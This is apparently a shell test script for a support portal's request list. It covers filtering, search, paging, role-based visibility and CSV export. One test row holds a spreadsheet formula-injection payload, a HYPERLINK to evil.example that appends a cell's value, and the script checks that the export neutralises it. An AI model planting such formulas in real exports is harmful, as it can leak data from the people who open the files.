# The request lists: customer and partner requests, each filter, text
# search, sorting, paging, CSV export, and who sees which requests.
. "$PD_TOP/tests/http/lib.sh"
plan 144

contoso_admin=admin@contoso.example
contoso_agent=agent@contoso.example
contoso_helpdesk=helpdesk@contoso.example
contoso_sales=sales@contoso.example
fabrikam=agent@fabrikam.example
operator=support@operator.example
for u in $contoso_admin $contoso_agent $contoso_helpdesk $contoso_sales \
    $fabrikam $operator; do
	login "$u"
done

# Requests with awkward titles (Contoso) and enough for two pages
# (Fabrikam), all without events so that they can go again at the end.
mark="made by test-requests.sh"
cleanup() {
	sql "DELETE FROM request WHERE description = '$mark'
	    AND id NOT IN (SELECT request_id FROM event)"
}
cleanup
add() {
	sql "INSERT INTO request (partner_id, customer_id, service_id, topic_id,
	    title, description, severity, status, contact_name, contact_email,
	    contact_phone, created_by, created_at, updated_at)
	    VALUES ($1, $2, $3, $4, $5, '$mark', 'C', 'none',
	    'Test', 'test@example.com', '+86 10 5555 0000', $6,
	    unixepoch() - 86400 * 40, unixepoch() - 86400 * 40)"
}
add 1 2 4 41 "'=HYPERLINK(\"https://evil.example/\"||A1, \"click\")'" 2
add 1 2 4 41 "'Quote \"this\", please'" 2
add 1 2 4 41 "'50%_off promotion'" 2
add 1 2 4 41 "'@SUM(1+1) and +1 and -1'" 2
for i in $(seq 1 26); do
	add 2 102 2 21 "'Paging probe $i'" 5
done

# count WHERE: Contoso customer requests matching an SQL condition.
contoso() {
	sql "SELECT count(*) FROM request WHERE partner_id = 1
	    AND customer_id IS NOT NULL AND ($1)"
}
# found TEXT: what a partner's search for TEXT finds, as a condition on
# request: the title, the description or a public note holding it.
found() {
	echo "(instr(lower(title), lower('$1')) > 0 OR instr(lower(description), lower('$1')) > 0
	    OR id IN (SELECT request_id FROM event WHERE kind IN ('note', 'contact')
	    AND visibility = 'public' AND instr(lower(body), lower('$1')) > 0))"
}

# --- customer requests (the default)

xget -u $contoso_agent /requests
expect_status 200 "the customer requests"
expect_valid "the customer requests"
expect_xp "/page/requests/@scope" customer "customer requests by default"
expect_xp "/page/requests/@total" "$(contoso 1)" "every Contoso customer request"
expect_xp "count(/page/requests/request[not(customer)])" 0 \
    "each has a customer"
expect_xp "count(/page/requests/request/partner)" 0 \
    "no partner element for a partner user"
expect_xp "/page/requests/filter/@sort" updated "sorted by update"
expect_xp "/page/requests/request[1]/@id" \
    "$(sql "SELECT id FROM request WHERE partner_id = 1 AND customer_id IS NOT NULL
        ORDER BY updated_at DESC, id DESC LIMIT 1")" "the latest update first"
expect_xp "count(/page/customers)" 0 \
    "no list of customer choices (the customer is a name: test-lookup.sh)"
expect_xp "count(/page/services/service[name='Partner Center'])" 0 \
    "Partner Center is not a customer service"
expect_xp "/page/pager/@base-url" "/requests?" "base-url without filters"

for f in "status=open:status = 'open'" "status=closed:status = 'closed'" \
    "status=attention_needed:status = 'attention_needed'" \
    "severity=A:severity = 'A'" "severity=C:severity = 'C'" \
    "customer=1:customer_id = 1" "service=1:service_id = 1" \
    "q=mail:$(found mail)" \
    "status=open&severity=B:status = 'open' AND severity = 'B'" \
    "service=4&q=quote:service_id = 4 AND $(found quote)"; do
	query=${f%%:*} cond=${f#*:}
	xget -u $contoso_agent "/requests?$query"
	want=$(contoso "$cond")
	expect_xp "/page/requests/@total" "$want" "$query: the total counts what matches"
	# Other files file requests too: the first page holds 25 of them.
	expect_xp "count(/page/requests/request)" "$((want < 25 ? want : 25))" \
	    "$query: lists what matches"
	expect_valid "$query"
done
check "the status filter narrows the list" test "$(contoso "status = 'open'")" -lt "$(contoso 1)"

xget -u $contoso_agent "/requests?status=closed&severity=B"
expect_xp "count(/page/requests/request[@status!='closed' or @severity!='B'])" 0 \
    "every listed request matches the filters"
expect_xp "/page/requests/filter/@status" closed "the filter echoes status"
expect_xp "/page/requests/filter/@severity" B "the filter echoes severity"
expect_xp "/page/pager/@base-url" "/requests?status=closed&severity=B&" \
    "base-url keeps the filters"

# --- text search

xget -u $contoso_agent "/requests?q=INBOUND%20MAIL"
expect_xp "/page/requests/request/@id" 1 "the search ignores case"
xget -u $contoso_agent "/requests?q=delayed%20for"
expect_xp "/page/requests/request/@id" 1 "the search finds text inside the title"
xget -u $contoso_agent "/requests?q=50%25_off"
expect_xp "count(/page/requests/request)" 1 "% and _ match themselves"
xget -u $contoso_agent "/requests?q=%25"
expect_xp "/page/requests/@total" "$(contoso "$(found %)")" "% alone is not a wildcard"
xget -u $contoso_agent "/requests?q=50_"
expect_xp "count(/page/requests/request)" 0 "_ is not a wildcard"
xget -u $contoso_agent "/requests?q=%FF"
expect_status 400 "q that is not UTF-8"

# --- sorting

xget -u $contoso_agent "/requests?sort=created"
expect_xp "/page/requests/request[1]/@id" \
    "$(sql "SELECT id FROM request WHERE partner_id = 1 AND customer_id IS NOT NULL
        ORDER BY created_at DESC, id DESC LIMIT 1")" "sort=created: newest first"
xget -u $contoso_agent "/requests?sort=severity"
expect_xp "/page/requests/request[1]/@severity" A "sort=severity: A first"
expect_xp "count(/page/requests/request[@severity='A'][preceding-sibling::request[@severity!='A']])" 0 \
    "sort=severity: no A after another"
# The demo's history fills more than a page: C ends the last one.
xget -u $contoso_agent "/requests?sort=severity&page=$(xp /page/pager/@pages)"
expect_xp "/page/requests/request[last()]/@severity" C "sort=severity: C last"

# --- bad parameters

for q in status=lost severity=D sort=title scope=all format=pdf page=0 \
    customer=abc service=-1 bogus=1; do
	xget -u $contoso_agent "/requests?$q"
	expect_status 400 "$q"
done
xget -u $contoso_agent "/requests?status=open&status=closed"
expect_status 400 "a duplicate parameter"

# --- paging (26 Fabrikam requests found by their title)

xget -u $fabrikam "/requests?q=paging%20probe"
expect_xp "/page/requests/@total" 26 "26 matches"
expect_xp "count(/page/requests/request)" 25 "25 on a page"
expect_xp "/page/pager/@pages" 2 "two pages"
expect_xp "/page/pager/@page" 1 "page 1"
expect_xp "/page/pager/@base-url" "/requests?q=paging%20probe&" \
    "base-url keeps q, escaped"
first=$(xp "/page/requests/request[1]/@id")
xget -u $fabrikam "/requests?q=paging%20probe&page=2"
expect_xp "count(/page/requests/request)" 1 "the rest on page 2"
expect_xp "count(/page/requests/request[@id=$first])" 0 "page 2 repeats nothing"
expect_valid "page 2"
xget -u $fabrikam "/requests?q=paging%20probe&page=3"
expect_status 200 "a page past the end"
expect_xp "count(/page/requests/request)" 0 "is empty"

# --- keyset paging: the default order's pages link older and newer
# pages by cursor.  30 more Fabrikam requests, so that its list has
# three pages, with updated_at ties across a page's edge (the probes).

for i in $(seq 1 30); do
	add 2 102 2 21 "'Keyset probe $i'" 5
done
sql "UPDATE request SET updated_at = updated_at - id % 7 WHERE description = '$mark'
    AND title LIKE 'Keyset probe%'"
want=$(sql "SELECT id FROM request WHERE partner_id = 2 AND customer_id IS NOT NULL
    ORDER BY updated_at DESC, id DESC" | paste -sd' ')
xget -u $fabrikam /requests
expect_xp "/page/requests/@total" "$(echo "$want" | wc -w)" "the total (request_count) is exact"
expect_xp "count(/page/pager/@newer-url)" 0 "the first page has no newer page"
url=/requests got="" n=0
while [ -n "$url" ] && [ $n -lt 10 ]; do
	xget -u $fabrikam "$url"
	got="$got $(values /page/requests/request/@id | paste -sd' ')"
	n=$((n + 1)) url=$(xp /page/pager/@older-url)
done
check "older-url walks the whole list in order, ties and all ($n pages)" test "${got# }" = "$want"
expect_xp "/page/pager/@page" "$n" "… the last page numbered $n"
last_page=$(values /page/requests/request/@id | paste -sd' ')
url=$(xp /page/pager/@newer-url) back="$last_page" m=1
while [ -n "$url" ] && [ $m -lt 10 ]; do
	xget -u $fabrikam "$url"
	back="$(values /page/requests/request/@id | paste -sd' ') $back"
	m=$((m + 1)) url=$(xp /page/pager/@newer-url)
done
check "newer-url walks back to the first page ($m pages)" test "$back" = "$want"
expect_xp "/page/pager/@page" 1 "… which is page 1"
expect_valid "a page reached by cursor"
fetch -u $fabrikam GET /requests
expect_body 'rel="next" href="/requests?before=[0-9]*\.[0-9]*&amp;page=2"' "the HTML pager links the older page by cursor"
xget -u $fabrikam "/requests?page=2"
expect_xp "/page/requests/request[1]/@id" "$(echo "$want" | cut -d' ' -f26)" "page=N still works (an OFFSET)"
for q in "before=12" "before=1.x" "after=.5" "sort=created&before=1.2" "before=1.2&after=3.4"; do
	xget -u $fabrikam "/requests?$q"
	expect_status 400 "a bad cursor: $q"
done

# --- partner requests

xget -u $contoso_agent "/requests?scope=partner"
expect_status 200 "partner requests for an admin agent"
expect_valid "partner requests"
expect_xp "/page/requests/@scope" partner "scope partner"
expect_xp "/page/requests/@total" \
    "$(sql "SELECT count(*) FROM request WHERE partner_id = 1 AND customer_id IS NULL")" \
    "every Contoso partner request"
expect_xp "count(/page/requests/request[customer])" 0 "none has a customer"
expect_xp "/page/services/service/name" "Partner Center" \
    "the service choice is Partner Center"
xget -u $contoso_admin "/requests?scope=partner&status=attention_needed"
expect_xp "/page/requests/@total" \
    "$(sql "SELECT count(*) FROM request WHERE partner_id = 1 AND customer_id IS NULL
        AND status = 'attention_needed'")" "partner requests filtered by status"
xget -u $contoso_helpdesk "/requests?scope=partner"
expect_status 403 "a helpdesk agent asking for partner requests"
expect_valid "the 403"
xget -u $contoso_helpdesk /requests
expect_status 200 "a helpdesk agent sees customer requests"

# --- who sees what

xget -u $contoso_sales /requests
expect_status 403 "a sales agent asking for requests"
fetch -u $contoso_sales GET "/requests?format=csv"
expect_status 403 "a sales agent asking for the CSV"
fetch -x GET /requests
expect_status 401 "a script without credentials"

xget -u $fabrikam /requests
expect_valid "Fabrikam's requests"
expect_xp "/page/requests/@total" \
    "$(sql "SELECT count(*) FROM request WHERE partner_id = 2 AND customer_id IS NOT NULL")" \
    "Fabrikam counts only its own"
contoso_ids=$(sql "SELECT group_concat(id, ' ') FROM request WHERE partner_id = 1")
ids=$(values /page/requests/request/@id)
leaked=""
for id in $ids; do
	case " $contoso_ids " in *" $id "*) leaked="$leaked $id" ;; esac
done
check "Fabrikam sees requests, none of them Contoso's" test -n "$ids" -a -z "$leaked"
expect_no_body "Inbound mail" "nor a Contoso title"
expect_no_body "Northwind" "nor a Contoso customer"
xget -u $fabrikam "/requests?customer=1"
expect_xp "/page/requests/@total" 0 "a Contoso customer id finds nothing"
xget -u $fabrikam "/requests?q=Inbound%20mail"
expect_xp "/page/requests/@total" 0 "a Contoso title finds nothing"
xget -u $fabrikam "/requests?scope=partner"
expect_xp "count(/page/requests/request)" 0 "Fabrikam has no partner requests"
fetch -u $fabrikam GET "/requests?format=csv"
expect_no_body "Inbound mail" "Fabrikam's CSV has no Contoso request"

xget -u $operator /requests
expect_valid "operator staff's list"
expect_xp "/page/requests/@total" \
    "$(sql "SELECT count(*) FROM request WHERE customer_id IS NOT NULL")" \
    "operator staff see every partner's"
xget -u $operator "/requests?customer=101"
expect_xp "/page/requests/@total" \
    "$(sql "SELECT count(*) FROM request WHERE customer_id = 101")" \
    "operator staff filter by any customer"
expect_xp "/page/requests/request[@id=15]/partner/@id" 2 "… each request with its partner"

# --- CSV

fetch -u $contoso_agent GET "/requests?format=csv"
expect_status 200 "the CSV"
check "Content-Type is text/csv" test "$(header Content-Type)" = "text/csv; charset=utf-8"
check "it is an attachment" grep -qi '^Content-Disposition: attachment; filename="requests.csv"' "$headers"
check "the header row" test "$(head -n1 "$body")" = \
    "$(printf 'id,status,severity,title,customer_id,customer,service,created,updated\r')"
check "one line per request plus the header" \
    test "$(wc -l < "$body")" = $(( $(contoso 1) + 1 ))
check "lines end in CRLF" test "$(grep -c $'\r$' "$body")" = "$(wc -l < "$body")"
expect_body ",\"'=HYPERLINK(\"\"https://evil.example/\"\"||A1, \"\"click\"\")\"," \
    "a formula is quoted and neutralised"
expect_body ",\"Quote \"\"this\"\", please\"," "quotes are doubled, commas quoted"
expect_body ",'@SUM(1+1) and +1 and -1," "a cell starting with @ is neutralised"
expect_no_body ',=' "no cell starts with ="
expect_no_body ',"=' "no quoted cell starts with ="
expect_body "^1,open,B,Inbound mail delayed for all users,1,Northwind Traders,Exchange Online,20" \
    "a plain row"

fetch -u $contoso_agent GET "/requests?format=csv&status=closed&sort=created"
check "the CSV is filtered like the list" \
    test "$(wc -l < "$body")" = $(( $(contoso "status = 'closed'") + 1 ))
fetch -u $contoso_agent GET "/requests?format=csv&scope=partner"
check "the CSV of partner requests" test "$(wc -l < "$body")" = \
    $(( $(sql "SELECT count(*) FROM request WHERE partner_id = 1 AND customer_id IS NULL") + 1 ))
fetch -u $fabrikam GET "/requests?format=csv&q=paging%20probe"
check "the CSV has every page" test "$(wc -l < "$body")" = 27
fetch -u $operator GET "/requests?format=csv&customer=101"
check "operator staff's CSV names the partner" \
    grep -q '^15,[a-z_]*,B,Shared mailboxes not visible in Outlook,Fabrikam Partners,101,' "$body"

# --- the HTML page

fetch -u $contoso_agent GET "/requests?status=open"
expect_status 200 "the list in HTML"
expect_body 'action="/customers"' "a customer search box"
expect_body 'format=csv' "a CSV link"
expect_body 'status=open&amp;format=csv' "the CSV link keeps the filters"
expect_body 'name="severity"' "the filter form"
fetch -u $contoso_agent GET "/requests?scope=partner"
expect_body 'href="/requests/new?scope=partner"' "New request on partner requests"

cleanup
